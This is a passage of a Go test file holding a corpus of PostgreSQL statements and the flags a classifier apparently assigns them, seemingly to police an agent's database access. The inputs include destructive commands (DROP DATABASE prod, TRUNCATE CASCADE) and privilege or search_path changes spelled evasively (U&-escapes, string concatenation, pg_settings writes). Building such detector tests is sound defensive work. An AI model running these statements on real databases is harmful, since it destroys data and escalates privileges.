	{sql: "SELECT purge_old_rows()", kind: KindSelect, flags: "r proc", funcs: []string{"purge_old_rows"}},
	{sql: "select purge_old_rows(30)", kind: KindSelect, flags: "r proc"},
	{sql: "SELECT public.f(1)", kind: KindSelect, flags: "r proc", funcs: []string{"public.f", "f"}},
	{sql: "SELECT mydb.public.f(1)", kind: KindSelect, flags: "r proc", funcs: []string{"mydb.public.f", "f"}},
	{sql: "SELECT pg_temp.f()", kind: KindSelect, flags: "r proc"},
	{sql: "SELECT public.lower('x')", kind: KindSelect, flags: "r proc"},
	{sql: "SELECT information_schema.f()", kind: KindSelect, flags: "r proc"},
	{sql: `SELECT "Lower"('x')`, kind: KindSelect, flags: "r proc"},
	{sql: `SELECT "PG_CATALOG".lower('x')`, kind: KindSelect, flags: "r proc"},
	{sql: "SELECT uuid_generate_v4()", kind: KindSelect, flags: "r proc"},
	{sql: "SELECT id FROM t WHERE purge_old_rows() > 0", kind: KindSelect, flags: "r proc where const"},
	{sql: "SELECT id FROM t WHERE id = 1 AND f(id)", kind: KindSelect, flags: "r proc where"},
	{sql: "SELECT * FROM purge_old_rows()", kind: KindSelect, flags: "r proc"},
	{sql: "SELECT * FROM public.purge_old_rows() AS p(n)", kind: KindSelect, flags: "r proc"},
	{sql: "SELECT * FROM t, LATERAL f(t.id)", kind: KindSelect, flags: "r proc", read: []string{"t"}},
	{sql: "SELECT * FROM ROWS FROM (generate_series(1, 3), f())", kind: KindSelect, flags: "r proc"},
	{sql: "SELECT * FROM a JOIN b ON f(a.id, b.id)", kind: KindSelect, flags: "r proc"},
	{sql: "SELECT id FROM t ORDER BY f(id)", kind: KindSelect, flags: "r proc"},
	{sql: "SELECT status, count(*) FROM t GROUP BY f(status) HAVING g(count(*))", kind: KindSelect, flags: "r proc"},
	{sql: "SELECT row_number() OVER (PARTITION BY f(a) ORDER BY b) FROM t", kind: KindSelect, flags: "r proc"},
	{sql: "SELECT count(*) FILTER (WHERE f(a)) FROM t", kind: KindSelect, flags: "r proc"},
	{sql: "SELECT my_agg(a) FROM t", kind: KindSelect, flags: "r proc"},
	{sql: "SELECT id FROM t LIMIT f()", kind: KindSelect, flags: "r proc"},
	{sql: "SELECT CASE WHEN a > 0 THEN f() ELSE 0 END FROM t", kind: KindSelect, flags: "r proc"},
	{sql: "SELECT lower(f())", kind: KindSelect, flags: "r proc"},
	{sql: "SELECT coalesce(a, f()) FROM t", kind: KindSelect, flags: "r proc"},
	{sql: "SELECT ARRAY[f()]", kind: KindSelect, flags: "r proc"},
	{sql: "SELECT (SELECT f())", kind: KindSelect, flags: "r proc"},
	{sql: "SELECT * FROM t WHERE id IN (SELECT f())", kind: KindSelect, flags: "r proc where"},
	{sql: "SELECT * FROM t WHERE EXISTS (SELECT 1 FROM u WHERE f(u.id))", kind: KindSelect, flags: "r proc where"},
	{sql: "SELECT * FROM (SELECT f() AS x) s", kind: KindSelect, flags: "r proc"},
	{sql: "WITH x AS (SELECT purge_old_rows()) SELECT * FROM x", kind: KindSelect, flags: "r proc"},
	{sql: "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT f(n) FROM r) SELECT * FROM r", kind: KindSelect, flags: "r proc"},
	{sql: "SELECT 1 UNION SELECT f()", kind: KindSelect, flags: "r proc"},
	{sql: "VALUES (1), (f())", kind: KindSelect, flags: "r proc"},
	{sql: "INSERT INTO t VALUES (f())", kind: KindInsert, flags: "w proc", written: []string{"t"}},
	{sql: "INSERT INTO t SELECT f()", kind: KindInsert, flags: "w proc"},
	{sql: "INSERT INTO t (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET x = f()", kind: KindInsert, flags: "w proc"},
	{sql: "UPDATE t SET x = f() WHERE id = 1", kind: KindUpdate, flags: "w proc where"},
	{sql: "DELETE FROM t WHERE id = 1 RETURNING f(id)", kind: KindDelete, flags: "w proc where"},
	{sql: "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET x = f()", kind: KindMerge, flags: "r w proc where"},
	{sql: "SELECT f() INTO t2", kind: KindCreate, flags: "r w ddl proc"},
	{sql: "CREATE TABLE t2 AS SELECT f()", kind: KindCreate, flags: "r w ddl proc"},
	{sql: "COPY (SELECT f()) TO STDOUT", kind: KindCopy, flags: "r proc"},
	{sql: "EXPLAIN SELECT purge_old_rows()", kind: KindExplain, flags: "r proc noexec"},
	{sql: "EXPLAIN ANALYZE SELECT purge_old_rows()", kind: KindSelect, flags: "r proc"},
	{sql: "PREPARE p AS SELECT purge_old_rows()", kind: KindSelect, flags: "r proc noexec", prep: "p"},
	{sql: "DECLARE c CURSOR FOR SELECT purge_old_rows()", kind: "DECLARE", flags: "r proc"},
	{sql: "CREATE TABLE t (id int DEFAULT f())", kind: KindCreate, flags: "ddl proc"},
	{sql: "CREATE TABLE t (id int CHECK (f(id)))", kind: KindCreate, flags: "ddl proc"},
	{sql: "ALTER TABLE t ADD COLUMN c int DEFAULT f()", kind: KindAlter, flags: "ddl proc"},
	{sql: "ALTER TABLE t ALTER COLUMN c SET DEFAULT f()", kind: KindAlter, flags: "ddl proc"},
	{sql: "ALTER TABLE t ALTER COLUMN c TYPE int USING f(c)", kind: KindAlter, flags: "ddl proc"},
	{sql: "CREATE INDEX ON t (f(c))", kind: KindCreate, flags: "ddl proc"},
	{sql: "CREATE TABLE t (id int DEFAULT now(), n text DEFAULT lower('X'))", kind: KindCreate, flags: "ddl"},
	{sql: "SELECT TREAT(x AS mytype) FROM t", kind: KindSelect, flags: "r proc"},
	{sql: "SELECT * FROM t TABLESAMPLE system_rows(10)", kind: KindSelect, flags: "r proc"},
	{sql: "SELECT 1 OPERATOR(public.+) 2", kind: KindSelect, flags: "r proc"},
	{sql: "SELECT * FROM t ORDER BY embedding <=> '[1,2]' LIMIT 5", kind: KindSelect, flags: "r proc"},
	{sql: "SELECT * FROM t WHERE a OPERATOR(myschema.=) ANY (SELECT 1)", kind: KindSelect, flags: "r proc where"},
	{sql: "SELECT * FROM t ORDER BY a USING OPERATOR(myschema.<)", kind: KindSelect, flags: "r proc"},

	// Built-ins known to be free of effects stay reads, however called.
	{sql: "SELECT lower(name), upper(name), length(name), abs(x), round(x, 2), coalesce(a, b), nullif(a, b), greatest(a, b) FROM t", kind: KindSelect, flags: "r"},
	{sql: "SELECT count(*), sum(x), avg(x), min(x), max(x), string_agg(name, ','), array_agg(id), json_agg(t), bool_and(ok) FROM t", kind: KindSelect, flags: "r"},
	{sql: "SELECT now(), clock_timestamp(), random(), gen_random_uuid(), date_trunc('day', now()), to_char(now(), 'YYYY'), age(now())", kind: KindSelect, flags: "r"},
	{sql: "SELECT currval('s'), lastval(), current_setting('search_path'), pg_backend_pid(), version(), pg_typeof(1), pg_is_in_recovery()", kind: KindSelect, flags: "r"},
	{sql: "SELECT pg_catalog.lower('X'), pg_catalog.pg_get_userbyid(10), pg_catalog.format_type(23, NULL)", kind: KindSelect, flags: "r"},
	{sql: "SELECT jsonb_build_object('a', 1), to_jsonb(t), x->>'k', x #> '{a}', jsonb_path_query(x, '$.a') FROM t", kind: KindSelect, flags: "r"},
	{sql: "SELECT * FROM jsonb_each('{}'::jsonb), unnest(ARRAY[1, 2]), generate_series(1, 3)", kind: KindSelect, flags: "r"},
	{sql: "SELECT row_number() OVER (ORDER BY id), lag(x) OVER w FROM t WINDOW w AS (ORDER BY id)", kind: KindSelect, flags: "r"},
	{sql: "SELECT extract(year FROM d), substring(s FROM 1 FOR 2), trim(both ' ' FROM s), position('a' IN s), overlay(s PLACING 'x' FROM 1), s SIMILAR TO 'a%', d AT TIME ZONE 'UTC', s IS NORMALIZED, normalize(s), collation for (s), (d, d) OVERLAPS (d, d), s LIKE 'a' ESCAPE '!' FROM t", kind: KindSelect, flags: "r"},
	{sql: "SELECT system_user, current_user, current_date, localtimestamp, TREAT(x AS int4), xmlexists('//a' PASSING x) FROM t", kind: KindSelect, flags: "r"},
	{sql: "SELECT pg_size_pretty(pg_total_relation_size(c.oid)), pg_relation_size(c.oid), obj_description(c.oid, 'pg_class'), has_table_privilege(c.oid, 'SELECT'), pg_get_indexdef(c.oid), pg_table_is_visible(c.oid), to_regclass('t') FROM pg_class c", kind: KindSelect, flags: "r"},
	{sql: "SELECT a.attname, pg_catalog.format_type(a.atttypid, a.atttypmod), pg_get_expr(d.adbin, d.adrelid) FROM pg_attribute a LEFT JOIN pg_attrdef d ON d.adrelid = a.attrelid WHERE a.attrelid = 'public.t'::regclass AND a.attnum > 0 ORDER BY a.attnum", kind: KindSelect, flags: "r where"},
	{sql: "SELECT (information_schema._pg_expandarray(i.indkey)).n FROM pg_index i", kind: KindSelect, flags: "r"},
	{sql: "SELECT * FROM t WHERE a <> b AND a != b AND a BETWEEN 1 AND 2 AND a NOT BETWEEN SYMMETRIC 1 AND 2 AND a IN (1, 2) AND a IS DISTINCT FROM b AND a ILIKE b AND a = ANY (b) AND -a < |/b AND a @> b AND a || b = b AND a OPERATOR(pg_catalog.+) 1 > 0", kind: KindSelect, flags: "r where"},
	{sql: "SELECT * FROM t WHERE a > ALL (SELECT 1) ORDER BY a USING ~<~", kind: KindSelect, flags: "r where"},
	{sql: "SELECT * FROM t TABLESAMPLE SYSTEM (10)", kind: KindSelect, flags: "r"},
	{sql: "SELECT * FROM t TABLESAMPLE bernoulli (5) REPEATABLE (1)", kind: KindSelect, flags: "r"},

	// DDL.
	{sql: "DROP TABLE t", kind: KindDrop, flags: "w ddl", written: []string{"t"}},
	{sql: "DROP TABLE IF EXISTS a.b, c CASCADE", kind: KindDrop, flags: "w ddl", written: []string{"a.b", "b", "c"}},
	{sql: "DROP SCHEMA s CASCADE", kind: KindDrop, flags: "w ddl"},
	{sql: "DROP DATABASE prod", kind: KindDrop, flags: "w ddl"},
	{sql: "DROP INDEX i", kind: KindDrop, flags: "ddl"},
	{sql: "DROP VIEW v", kind: KindDrop, flags: "ddl"},
	{sql: "DROP FUNCTION f()", kind: KindDrop, flags: "ddl proc"},
	{sql: "DROP SEQUENCE s", kind: KindDrop, flags: "w ddl"},
	{sql: "TRUNCATE t", kind: KindTruncate, flags: "w ddl", written: []string{"t"}},
	{sql: "TRUNCATE TABLE a, b RESTART IDENTITY CASCADE", kind: KindTruncate, flags: "w ddl", written: []string{"a", "b"}},
	{sql: "CREATE TABLE t (id int primary key)", kind: KindCreate, flags: "ddl", written: []string{"t"}},
	{sql: "CREATE TEMP TABLE t (id int)", kind: KindCreate, flags: "ddl"},
	{sql: "CREATE INDEX CONCURRENTLY i ON t (a)", kind: KindCreate, flags: "ddl", written: []string{"t"}},
	{sql: "CREATE VIEW v AS SELECT * FROM t", kind: KindCreate, flags: "r ddl", written: []string{"v"}, read: []string{"t"}},
	{sql: "CREATE SCHEMA s", kind: KindCreate, flags: "ddl"},
	{sql: "CREATE SEQUENCE s", kind: KindCreate, flags: "ddl"},
	{sql: "ALTER TABLE t ADD COLUMN c int", kind: KindAlter, flags: "ddl", written: []string{"t"}},
	{sql: "ALTER TABLE t DROP COLUMN c", kind: KindAlter, flags: "ddl"},
	{sql: "ALTER TABLE t RENAME TO u", kind: KindAlter, flags: "ddl"},
	{sql: "ALTER TABLE t SET SCHEMA s", kind: KindAlter, flags: "ddl"},
	{sql: "ALTER SEQUENCE s RESTART", kind: KindAlter, flags: "ddl"},
	{sql: "ALTER DATABASE d SET search_path = x", kind: KindAlter, flags: "ddl priv sp"}, // every later session of every role
	{sql: "COMMENT ON TABLE t IS 'x'", kind: "COMMENT", flags: "ddl"},
	{sql: "CREATE TYPE mood AS ENUM ('a', 'b')", kind: KindCreate, flags: "ddl"},
	{sql: "CREATE RULE r AS ON DELETE TO t DO INSTEAD NOTHING", kind: KindCreate, flags: "ddl proc"},
	{sql: "CREATE DATABASE d", kind: KindCreate, flags: "ddl"},
	{sql: "LOCK TABLE t IN ACCESS EXCLUSIVE MODE", kind: KindLock, flags: "lock", written: []string{"t"}},

	// Review 19a (2027): statements that change who the session is, what a role may do, or
	// search_path, and statements PostgreSQL does not count as read-only.

	// Must hold: a write to pg_settings is set_config through the view's rule (UPDATE), with the
	// setting's name in the WHERE clause: judged as set_config of an unknown name (it may be role,
	// search_path, standard_conforming_strings). Any spelling of pg_catalog's view, in a CTE too.
	{sql: "UPDATE pg_settings SET setting = 'app_owner' WHERE name = 'role'", kind: KindUpdate, flags: "w priv sess sp unk where", written: []string{"pg_settings"}},
	{sql: "update pg_settings set setting = 'off' where name = 'standard_conforming_strings'", kind: KindUpdate, flags: "w priv sess sp unk where"},
	{sql: `UPDATE "pg_catalog"."pg_settings" SET setting = 'x' WHERE name = 'search_path'`, kind: KindUpdate, flags: "w priv sess sp unk where"},
	{sql: "UPDATE PG_CATALOG.PG_SETTINGS SET setting = 'x' WHERE name = 'role'", kind: KindUpdate, flags: "w priv sess sp unk where"},
	{sql: "UPDATE mydb.pg_catalog.pg_settings SET setting = 'x' WHERE name = 'role'", kind: KindUpdate, flags: "w priv sess sp unk where"},
	{sql: `UPDATE U&"pg_setting\0073" SET setting = 'x' WHERE name = 'role'`, kind: KindUpdate, flags: "w priv sess sp unk where"},
	{sql: "UPDATE pg_settings SET setting = 'x'", kind: KindUpdate, flags: "w priv sess sp unk"},
	{sql: "INSERT INTO pg_settings (name, setting) VALUES ('role', 'x')", kind: KindInsert, flags: "w priv sess sp unk"},
	{sql: "DELETE FROM pg_catalog.pg_settings WHERE name = 'role'", kind: KindDelete, flags: "w priv sess sp unk where"},
	{sql: "MERGE INTO pg_settings s USING (SELECT 'role' AS n) v ON s.name = v.n WHEN MATCHED THEN UPDATE SET setting = 'x'", kind: KindMerge, flags: "w priv sess sp unk where"},
	{sql: "WITH u AS (UPDATE pg_settings SET setting = 'x' WHERE name = 'role' RETURNING 1) SELECT * FROM u", kind: KindSelect, flags: "r w priv sess sp unk where"},
	{sql: "PREPARE p AS UPDATE pg_settings SET setting = $1 WHERE name = $2", kind: KindUpdate, flags: "w priv sess sp unk noexec where", prep: "p"},
	// Must hold (near misses): reading pg_settings is a read; another schema's or a quoted
	// upper-case pg_settings is an ordinary table; pg_settings read by a write is not its target.
	{sql: "SELECT name, setting FROM pg_settings WHERE name = 'role'", kind: KindSelect, flags: "r where"},
	{sql: "SELECT * FROM pg_catalog.pg_settings", kind: KindSelect, flags: "r"},
	{sql: "UPDATE app.pg_settings SET setting = 'x' WHERE name = 'role'", kind: KindUpdate, flags: "w where"},
	{sql: `UPDATE "PG_SETTINGS" SET setting = 'x' WHERE name = 'role'`, kind: KindUpdate, flags: "w where"},
	{sql: "UPDATE t SET a = s.setting FROM pg_settings s WHERE s.name = t.n", kind: KindUpdate, flags: "r w where"},

	// Must hold: a locking clause anywhere locks rows (FOR UPDATE, FOR NO KEY UPDATE, FOR SHARE,
	// FOR KEY SHARE; in a CTE, a subquery, a cursor's query, EXPLAIN ANALYZE) and is not read-only.
	{sql: "SELECT * FROM t FOR NO KEY UPDATE", kind: KindSelect, flags: "r lock"},
	{sql: "SELECT * FROM t FOR SHARE", kind: KindSelect, flags: "r lock"},
	{sql: "SELECT * FROM t FOR KEY SHARE", kind: KindSelect, flags: "r lock"},
	{sql: "SELECT * FROM t FOR UPDATE OF t NOWAIT", kind: KindSelect, flags: "r lock"},
	{sql: "DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE", kind: "DECLARE", flags: "r lock"},
	{sql: "WITH l AS (SELECT * FROM t FOR UPDATE) SELECT * FROM l", kind: KindSelect, flags: "r lock"},
	{sql: "SELECT * FROM (SELECT * FROM t FOR SHARE) s", kind: KindSelect, flags: "r lock"},
	{sql: "SELECT * FROM u WHERE id IN (SELECT id FROM t FOR KEY SHARE)", kind: KindSelect, flags: "r lock where"},
	{sql: "EXPLAIN ANALYZE SELECT * FROM t FOR UPDATE", kind: KindSelect, flags: "r lock"},
	{sql: "COPY (SELECT * FROM t FOR UPDATE) TO STDOUT", kind: KindCopy, flags: "r lock"},
	// Must hold (near misses): plain EXPLAIN plans without locking rows; no locking clause, no lock.
	{sql: "EXPLAIN SELECT * FROM t FOR UPDATE", kind: KindExplain, flags: "r noexec"},
	{sql: "SELECT * FROM t WHERE note = 'FOR UPDATE'", kind: KindSelect, flags: "r where"},
	{sql: "DECLARE c CURSOR FOR SELECT * FROM t", kind: "DECLARE", flags: "r"},

	// Must hold: every spelling of a search_path change is sp (and still sess): the parser
	// turns SET SCHEMA and a quoted or U&-escaped name into search_path.
	{sql: "SET SCHEMA 'evil'", kind: KindSet, flags: "sess sp"},
	{sql: `SET U&"\0073earch_path" = evil, pg_catalog`, kind: KindSet, flags: "sess sp"},
	{sql: `SET "search_path" = evil`, kind: KindSet, flags: "sess sp"},
	{sql: `SET "SEARCH_PATH" = evil`, kind: KindSet, flags: "sess sp"}, // setting names ignore case
	{sql: "SET LOCAL search_path = evil", kind: KindSet, flags: "sess sp"},
	{sql: "SET SESSION search_path TO evil", kind: KindSet, flags: "sess sp"},
	{sql: "SET search_path FROM CURRENT", kind: KindSet, flags: "sess sp"},
	{sql: "SELECT set_config('SEARCH_PATH', 'evil', true)", kind: KindSelect, flags: "r sess sp"},
	{sql: "SELECT pg_catalog.set_config('search_path', 'evil', false)", kind: KindSelect, flags: "r sess sp"},
	{sql: "SELECT set_config('search' || '_path', 'evil', false)", kind: KindSelect, flags: "r priv sess sp unk"},
	{sql: "ALTER ROLE r IN DATABASE d SET search_path = evil", kind: KindAlter, flags: "ddl priv sp"},
	{sql: "ALTER DATABASE d RESET ALL", kind: KindAlter, flags: "ddl priv sp"},
	// Must hold (near misses): the text naming search_path is not a change of it.
	{sql: "SET application_name = 'search_path'", kind: KindSet, flags: "sess"},
	{sql: "SELECT current_setting('search_path')", kind: KindSelect, flags: "r"},
	{sql: "SELECT set_config('application_name', 'search_path', false)", kind: KindSelect, flags: "r sess"},
	{sql: "RESET statement_timeout", kind: KindReset, flags: "sess"},
	{sql: "SET TRANSACTION READ ONLY", kind: KindSet, flags: "tx"},

	// Must hold: renaming a role; settings applied at every later login (ALTER DATABASE … SET,
	// ALTER ROLE … [IN DATABASE …] SET); a schema owned by another role; a view's security
	// options (whose privileges its reads use, what leaks past its conditions, what it lets
	// be written): privilege.
	{sql: "ALTER ROLE agent_rw RENAME TO x", kind: KindAlter, flags: "ddl priv"},
	{sql: "ALTER USER agent_rw RENAME TO x", kind: KindAlter, flags: "ddl priv"},
	{sql: "ALTER GROUP g RENAME TO x", kind: KindAlter, flags: "ddl priv"},
	{sql: "ALTER POLICY p ON t RENAME TO q", kind: KindAlter, flags: "ddl priv"},
	{sql: "ALTER DATABASE prod SET role = 'app_owner'", kind: KindAlter, flags: "ddl priv"},
	{sql: "ALTER DATABASE prod SET statement_timeout = 0", kind: KindAlter, flags: "ddl priv"},
	{sql: "ALTER DATABASE prod RESET role", kind: KindAlter, flags: "ddl priv"},
	{sql: "ALTER ROLE r SET role = 'app_owner'", kind: KindAlter, flags: "ddl priv"},
	{sql: "ALTER ROLE r IN DATABASE prod SET role = 'app_owner'", kind: KindAlter, flags: "ddl priv"},
	{sql: "ALTER ROLE ALL SET role = 'app_owner'", kind: KindAlter, flags: "ddl priv"},
	{sql: "CREATE SCHEMA s AUTHORIZATION app_owner", kind: KindCreate, flags: "ddl priv"},
	{sql: "CREATE SCHEMA AUTHORIZATION app_owner", kind: KindCreate, flags: "ddl priv"},
	{sql: "CREATE SCHEMA IF NOT EXISTS s AUTHORIZATION SESSION_USER", kind: KindCreate, flags: "ddl priv"},
	{sql: "CREATE SCHEMA s CREATE TABLE x (a int) GRANT SELECT ON x TO PUBLIC", kind: KindCreate, flags: "ddl priv"},
	{sql: "CREATE SCHEMA s CREATE TRIGGER tr BEFORE INSERT ON x FOR EACH ROW EXECUTE FUNCTION f()", kind: KindCreate, flags: "ddl proc"},
	{sql: "ALTER VIEW v SET (security_invoker = false)", kind: KindAlter, flags: "ddl priv"},
	{sql: "ALTER VIEW v SET (security_barrier)", kind: KindAlter, flags: "ddl priv"},
	{sql: "ALTER VIEW v SET (check_option = local)", kind: KindAlter, flags: "ddl priv"},
	{sql: "ALTER VIEW v RESET (security_barrier)", kind: KindAlter, flags: "ddl priv"},
	{sql: "ALTER TABLE v SET (security_invoker = off)", kind: KindAlter, flags: "ddl priv"}, // ALTER TABLE works on views
	{sql: "CREATE OR REPLACE VIEW v WITH (security_barrier = false) AS SELECT 1", kind: KindCreate, flags: "ddl priv"},
	// Must hold (near misses): renaming or creating what is the agent's own stays DDL.
	{sql: "ALTER TABLE t RENAME TO u", kind: KindAlter, flags: "ddl"},
	{sql: "ALTER VIEW v RENAME TO w", kind: KindAlter, flags: "ddl"},
	{sql: "CREATE SCHEMA s2", kind: KindCreate, flags: "ddl"},
	{sql: "CREATE SCHEMA s3 AUTHORIZATION CURRENT_USER", kind: KindCreate, flags: "ddl"},
	{sql: "ALTER TABLE t SET (fillfactor = 50)", kind: KindAlter, flags: "ddl"},
	{sql: "ALTER VIEW v SET (autovacuum_enabled = false)", kind: KindAlter, flags: "ddl"},
	{sql: "CREATE VIEW v2 WITH (security_barrier = true) AS SELECT 1", kind: KindCreate, flags: "ddl"},

	// Maintenance.
	{sql: "VACUUM", kind: KindVacuum, flags: "maint"},
	{sql: "VACUUM FULL t", kind: KindVacuum, flags: "maint", written: []string{"t"}},
	{sql: "ANALYZE t", kind: KindAnalyze, flags: "maint"},
	{sql: "CLUSTER t USING i", kind: "CLUSTER", flags: "maint"},
	{sql: "REINDEX TABLE t", kind: "REINDEX", flags: "maint"},
	{sql: "CHECKPOINT", kind: "CHECKPOINT", flags: "maint"},
	{sql: "REFRESH MATERIALIZED VIEW mv", kind: "REFRESH", flags: "w maint"},

	// Unknown: does not parse.
	{sql: "DELETE FROM", kind: KindUnknown, flags: "unk"},
	{sql: "SELEC 1", kind: KindUnknown, flags: "unk"},
	{sql: "SELECT 'unterminated", kind: KindUnknown, flags: "unk"},
	{sql: "SELECT $$unterminated", kind: KindUnknown, flags: "unk"},
	{sql: "SELECT 1 /* unterminated", kind: KindUnknown, flags: "unk"},
	{sql: "/* a /* b */ SELECT 1", kind: KindUnknown, flags: "unk"},
	{sql: "SELECT 1; DELETE FROM", kind: KindUnknown, flags: "unk"},
	{sql: "\\d users", kind: KindUnknown, flags: "unk"},
	{sql: "SELECT E'abc\\'", kind: KindUnknown, flags: "unk"},
}

func TestCorpus(t *testing.T) {
	if len(corpus) < 150 {
		t.Fatalf("corpus has %d statements, want at least 150", len(corpus))
	}
	for _, c := range corpus {
		t.Run(c.sql, func(t *testing.T) {
			res := Classify(c.sql)
			n := c.n
			if n == 0 {
				n = 1
			}
			if len(res.Statements) != n {
				t.Fatalf("got %d statements, want %d (parse error %q)", len(res.Statements), n, res.ParseError)
			}
			st := &res.Statements[c.i]
			if st.Kind != c.kind {
				t.Errorf("kind %q, want %q", st.Kind, c.kind)
			}
			if got, want := flagsOf(st), canon(c.flags); got != want {
				t.Errorf("flags %q, want %q", got, want)
			}
			check := func(what string, got, want []string) {
				if want != nil && !slices.Equal(got, want) {
					t.Errorf("%s %q, want %q", what, got, want)
				}
			}
			check("tables written", st.TablesWritten, c.written)
			check("tables read", st.TablesRead, c.read)
			check("kinds", st.Kinds, c.kinds)
			if c.funcs != nil {
				for _, f := range c.funcs {
					if !slices.Contains(st.Functions, f) {
						t.Errorf("functions %q lack %q", st.Functions, f)
					}
				}
			}
			if st.Execute != c.exec {
				t.Errorf("execute %q, want %q", st.Execute, c.exec)
			}
			if st.Prepare != c.prep {
				t.Errorf("prepare %q, want %q", st.Prepare, c.prep)
			}
			if st.Unknown != (c.kind == KindUnknown || strings.Contains(c.flags, "unk")) {
				t.Errorf("unknown = %v", st.Unknown)
			}
			if st.Kinds[0] != string(st.Kind) {
				t.Errorf("kinds %q do not start with kind %q", st.Kinds, st.Kind)
			}
		})
	}
}
